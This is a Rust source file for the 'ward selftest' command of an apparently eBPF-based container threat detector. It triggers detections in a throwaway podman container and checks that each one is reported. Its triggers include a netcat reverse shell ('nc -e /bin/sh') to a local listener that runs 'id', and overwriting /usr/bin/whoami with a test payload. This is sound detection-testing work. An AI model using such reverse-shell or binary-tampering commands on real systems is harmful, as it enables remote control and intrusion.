//! `ward selftest`: safely triggers each finding type in a throwaway container and checks that
//! the agent reported it (like Google's "Testing Container Threat Detection" page).
//!
//! Self-contained: it starts its own `ward agent` (this binary, a temporary database and
//! output, an intel feed holding the harmless test payloads' hashes, `podman system service`
//! for container metadata), runs a `localhost/ward-test-debian` container with host networking,
//! and in it: a netcat reverse shell to a listener on 127.0.0.1 that only runs `id`, a compiler,
//! the payload baked into the image, the payload copied in after start, and an image binary
//! overwritten with the payload. The images come from `scripts/containers/build-images.sh`
//! (run if missing, when the repository is found). Nothing leaves 127.0.0.1.

use anyhow::{bail, Context, Result};
use clap::Args;
use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitCode, Stdio};
use std::time::{Duration, Instant};

const IMAGE: &str = "localhost/ward-test-debian:latest";
const PAYLOAD: &str = "/usr/local/bin/ward-test-payload";

#[derive(Args, Debug)]
pub struct SelftestArgs {
    /// How long to wait for each finding.
    #[arg(long, default_value = "20s", value_parser = humantime_duration)]
    pub timeout: Duration,
    /// Where the test images' facts are (written by scripts/containers/build-images.sh).
    #[arg(
        long,
        value_name = "DIR",
        env = "WARD_IMAGE_CACHE",
        default_value = "/var/cache/ward-images"
    )]
    pub image_cache: PathBuf,
    /// Configuration file passed to the agent under test (its [agent] sockets and metrics
    /// address are overridden).
    #[arg(long, value_name = "FILE")]
    pub config: Option<PathBuf>,
    /// Keep the agent's output directory and print its path.
    #[arg(long)]
    pub keep: bool,
}

fn humantime_duration(s: &str) -> Result<Duration, String> {
    humantime_serde::re::humantime::parse_duration(s).map_err(|e| e.to_string())
}

fn run(cmd: &mut Command) -> Result<std::process::Output> {
    let out = cmd.output().with_context(|| format!("running {cmd:?}"))?;
    if !out.status.success() {
        bail!(
            "{cmd:?} failed ({}): {}",
            out.status,
            String::from_utf8_lossy(&out.stderr).trim()
        );
    }
    Ok(out)
}

/// The repository's scripts/containers, found from the executable's location or $WARD_REPO.
fn scripts_dir() -> Option<PathBuf> {
    let mut candidates: Vec<PathBuf> = std::env::var_os("WARD_REPO")
        .map(PathBuf::from)
        .into_iter()
        .collect();
    if let Ok(exe) = std::env::current_exe() {
        candidates.extend(exe.ancestors().map(Path::to_path_buf));
    }
    candidates
        .into_iter()
        .map(|d| d.join("scripts/containers"))
        .find(|d| d.join("build-images.sh").is_file())
}

fn image_facts(cache: &Path) -> Result<HashMap<String, String>> {
    let exists = Command::new("podman")
        .args(["image", "exists", IMAGE])
        .status()
        .is_ok_and(|s| s.success());
    let env = cache.join("images.env");
    if !exists || !env.is_file() {
        let Some(dir) = scripts_dir() else {
            bail!(
                "image {IMAGE} or {} missing, and scripts/containers was not found (set WARD_REPO \
                 to Ward's repository, or run scripts/containers/setup.sh and build-images.sh)",
                env.display()
            );
        };
        eprintln!(
            "ward selftest: building the test images ({}) ...",
            dir.display()
        );
        run(Command::new("bash")
            .arg(dir.join("setup.sh"))
            .env("WARD_IMAGE_CACHE", cache))?;
        run(Command::new("bash")
            .arg(dir.join("build-images.sh"))
            .env("WARD_IMAGE_CACHE", cache))?;
    }
    let text =
        std::fs::read_to_string(&env).with_context(|| format!("reading {}", env.display()))?;
    Ok(text
        .lines()
        .filter(|l| !l.starts_with('#'))
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect())
}

/// A private directory under the temp dir, removed on drop unless kept.
struct TempDir {
    path: PathBuf,
    keep: std::cell::Cell<bool>,
}

impl TempDir {
    fn new() -> Result<TempDir> {
        let path = std::env::temp_dir().join(format!("ward-selftest-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&path);
        std::fs::create_dir(&path).with_context(|| format!("creating {}", path.display()))?;
        Ok(TempDir {
            path,
            keep: std::cell::Cell::new(false),
        })
    }

    fn path(&self) -> &Path {
        &self.path
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        if !self.keep.get() {
            let _ = std::fs::remove_dir_all(&self.path);
        }
    }
}

/// Processes and containers to clean up, whatever happens.
struct Guard {
    children: Vec<Child>,
    container: Option<String>,
    socket: Option<PathBuf>,
}

impl Drop for Guard {
    fn drop(&mut self) {
        for c in &mut self.children {
            // SAFETY: kill(2) on our own child.
            unsafe { libc::kill(c.id() as i32, libc::SIGTERM) };
            let deadline = Instant::now() + Duration::from_secs(10);
            while Instant::now() < deadline {
                if let Ok(Some(_)) = c.try_wait() {
                    break;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            let _ = c.kill();
            let _ = c.wait();
        }
        if let Some(name) = &self.container {
            let _ = Command::new("podman")
                .args(["rm", "-f", "-t", "0", name])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status();
        }
        if let Some(s) = &self.socket {
            let _ = std::fs::remove_file(s);
        }
    }
}

fn podman_api(guard: &mut Guard) -> Result<PathBuf> {
    std::fs::create_dir_all("/run/ward").ok();
    let sock = PathBuf::from(format!("/run/ward/selftest-{}.sock", std::process::id()));
    let _ = std::fs::remove_file(&sock);
    let child = Command::new("podman")
        .args(["system", "service", "--time=0"])
        .arg(format!("unix://{}", sock.display()))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .context("starting podman system service")?;
    guard.children.push(child);
    guard.socket = Some(sock.clone());
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        if ward_enrich::runtime::http_get(&sock, "/_ping", Duration::from_secs(2))
            .is_ok_and(|body| body == b"OK")
        {
            return Ok(sock);
        }
        if Instant::now() >= deadline {
            bail!("podman system service did not answer on {}", sock.display());
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

struct Check {
    category: &'static str,
    what: &'static str,
    binary: &'static str,
}

pub fn run_selftest(args: SelftestArgs) -> Result<ExitCode> {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        bail!("ward selftest needs root (it loads the eBPF sensor and runs a rootful podman container)");
    }
    let facts = image_facts(&args.image_cache)?;
    let fact = |k: &str| {
        facts
            .get(k)
            .cloned()
            .with_context(|| format!("{k} missing in {}/images.env", args.image_cache.display()))
    };
    let payload_sha = fact("WARD_TEST_PAYLOAD_SHA256")?;
    let added_sha = fact("WARD_TEST_ADDED_PAYLOAD_SHA256")?;
    let added_copy = fact("WARD_TEST_ADDED_PAYLOAD_HOST_COPY")?;

    let dir = TempDir::new()?;
    let feed = dir.path().join("selftest-intel.txt");
    std::fs::write(
        &feed,
        format!(
            "{payload_sha};ward selftest payload (harmless)\n{added_sha};ward selftest added payload (harmless)\n"
        ),
    )?;
    let mut guard = Guard {
        children: Vec::new(),
        container: None,
        socket: None,
    };
    let sock = podman_api(&mut guard)?;
    let mut cfg_text = match &args.config {
        Some(p) => {
            std::fs::read_to_string(p).with_context(|| format!("reading {}", p.display()))?
        }
        None => String::new(),
    };
    let mut cfg = crate::config::WardConfig::parse(&cfg_text, "--config")?;
    cfg.agent.docker_sockets = vec![sock];
    cfg.agent.metrics_addr = "none".into();
    cfg.agent.health_log_interval = Duration::ZERO;
    cfg_text = toml::to_string(&cfg).context("writing the agent's configuration")?;
    let cfg_path = dir.path().join("ward.toml");
    std::fs::write(&cfg_path, cfg_text)?;
    let findings = dir.path().join("findings.jsonl");
    let log = dir.path().join("agent.log");
    let agent = Command::new(std::env::current_exe()?)
        .arg("agent")
        .arg("--db")
        .arg(dir.path().join("ward.db"))
        .arg("--output")
        .arg(format!("jsonl:{}", findings.display()))
        .arg("--intel")
        .arg(&feed)
        .arg("--config")
        .arg(&cfg_path)
        .env_remove("WARD_DB")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log)?)
        .spawn()
        .context("starting ward agent")?;
    guard.children.insert(0, agent);
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        if text.contains("ward agent: ready") {
            break;
        }
        if let Ok(Some(st)) = guard.children[0].try_wait() {
            bail!("ward agent exited ({st}):\n{text}");
        }
        if Instant::now() >= deadline {
            bail!("ward agent not ready within 30 s:\n{text}");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    eprintln!("ward selftest: agent ready; starting a throwaway container");

    let name = format!("ward-selftest-{}", std::process::id());
    let out = run(Command::new("podman").args([
        "run",
        "-d",
        "--rm",
        "--network",
        "host",
        "--name",
        &name,
        IMAGE,
        "sleep",
        "300",
    ]))?;
    guard.container = Some(name.clone());
    let id = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let exec = |cmd: &[&str]| run(Command::new("podman").args(["exec", &name]).args(cmd));

    // Reverse shell: a listener on 127.0.0.1 that runs `id` and closes.
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let attacker = std::thread::spawn(move || -> Result<String> {
        listener.set_nonblocking(false)?;
        let (mut s, _) = listener.accept()?;
        s.set_read_timeout(Some(Duration::from_secs(10)))?;
        s.write_all(b"id\nexit\n")?;
        let mut out = String::new();
        let _ = s.read_to_string(&mut out);
        Ok(out)
    });
    let started = Instant::now();
    run(Command::new("podman").args([
        "exec",
        "-d",
        &name,
        "nc.traditional",
        "127.0.0.1",
        &port.to_string(),
        "-e",
        "/bin/sh",
    ]))?;
    exec(&["tcc", "-v"])?;
    exec(&[PAYLOAD])?;
    run(Command::new("podman")
        .arg("cp")
        .arg(&added_copy)
        .arg(format!("{name}:/tmp/ward-selftest-added")))?;
    exec(&["chmod", "755", "/tmp/ward-selftest-added"])?;
    exec(&["/tmp/ward-selftest-added"])?;
    exec(&["cp", PAYLOAD, "/usr/bin/whoami"])?;
    exec(&["/usr/bin/whoami"])?;

    let checks = [
        Check {
            category: "Reverse Shell",
            what: "nc -e /bin/sh to 127.0.0.1",
            binary: "",
        },
        Check {
            category: "Execution: Possible Remote Command Execution Detected",
            what: "`id` through that shell",
            binary: "",
        },
        Check {
            category: "Defense Evasion: Launch Code Compiler Tool In Container",
            what: "tcc -v",
            binary: "/usr/bin/tcc",
        },
        Check {
            category: "Execution: Built in Malicious Binary Executed",
            what: "test payload in the image",
            binary: PAYLOAD,
        },
        Check {
            category: "Execution: Added Malicious Binary Executed",
            what: "test payload copied in",
            binary: "/tmp/ward-selftest-added",
        },
        Check {
            category: "Execution: Modified Malicious Binary Executed",
            what: "image binary overwritten",
            binary: "/usr/bin/whoami",
        },
    ];
    let mut found: Vec<Option<Duration>> = vec![None; checks.len()];
    let deadline = Instant::now() + args.timeout;
    while found.iter().any(Option::is_none) && Instant::now() < deadline {
        let text = std::fs::read_to_string(&findings).unwrap_or_default();
        for line in text.lines() {
            let Ok(f) = serde_json::from_str::<serde_json::Value>(line) else {
                continue;
            };
            if f["sourceProperties"]["Container_Id"] != id.as_str() {
                continue;
            }
            for (i, c) in checks.iter().enumerate() {
                let bin_ok = c.binary.is_empty() || f["processes"][0]["binary"]["path"] == c.binary;
                if found[i].is_none() && f["category"] == c.category && bin_ok {
                    found[i] = Some(started.elapsed());
                }
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let shell_out = attacker
        .join()
        .map_err(|_| anyhow::anyhow!("listener thread panicked"))?
        .unwrap_or_default();

    println!("ward selftest: container {name} ({})", &id[..12]);
    println!("{:<58} {:<28} result", "finding", "trigger");
    for (c, f) in checks.iter().zip(&found) {
        let r = match f {
            Some(t) => format!(
                "PASS (seen {:.1} s after the triggers began)",
                t.as_secs_f64()
            ),
            None => format!("FAIL (not reported within {:?})", args.timeout),
        };
        println!("{:<58} {:<28} {r}", c.category, c.what);
    }
    if !shell_out.contains("uid=") {
        println!("note: the reverse shell did not answer `id` ({shell_out:?})");
    }
    let failed = found.iter().filter(|f| f.is_none()).count();
    if args.keep {
        dir.keep.set(true);
        println!("agent output kept in {}", dir.path().display());
    }
    drop(guard);
    if failed > 0 {
        println!(
            "ward selftest: {failed} of {} findings missing",
            checks.len()
        );
        Ok(ExitCode::from(1))
    } else {
        println!("ward selftest: all {} findings reported", checks.len());
        Ok(ExitCode::SUCCESS)
    }
}
